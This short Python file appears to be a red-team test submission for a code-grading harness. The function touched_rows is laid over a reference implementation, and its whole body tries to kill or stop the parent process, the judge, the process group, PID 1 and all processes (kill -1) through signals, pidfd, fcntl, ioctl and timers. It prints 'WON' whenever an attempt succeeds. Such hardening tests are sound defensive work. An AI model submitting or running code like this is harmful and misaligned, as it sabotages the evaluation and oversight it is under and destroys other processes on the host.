# attack: kills its server, its judge, its group and everybody
# class: A12
# laid over: reference
# may score: 33

import fcntl
import os
import signal
import struct

def tried(name, action):
    """Say WON if something succeeds that must not."""
    try:
        print("WON", name, str(action())[:200])
    except BaseException:
        pass


def touched_rows(ids, vocab_size, padding_idx=None):
    for target in (os.getppid(), os.getpid(), 0, -1, -os.getppid(), 1):
        for number in (9, 15, 19, 2, 0):
            tried(target, lambda: os.kill(target, number))
    tried("group", lambda: os.killpg(os.getppid(), 9))
    tried("descriptor", lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), 9))
    tried("raise", lambda: signal.raise_signal(signal.SIGSTOP))
    for command in (8, 10, 15, 1024, 1026, 1031, 1033):
        tried(command, lambda: fcntl.fcntl(1, command, os.getppid()))
    tried("timer", lambda: signal.setitimer(signal.ITIMER_REAL, 0.001))
    tried("owner", lambda: fcntl.ioctl(1, 0x8901, struct.pack("i", os.getppid())))
    raise ProcessLookupError("nothing")
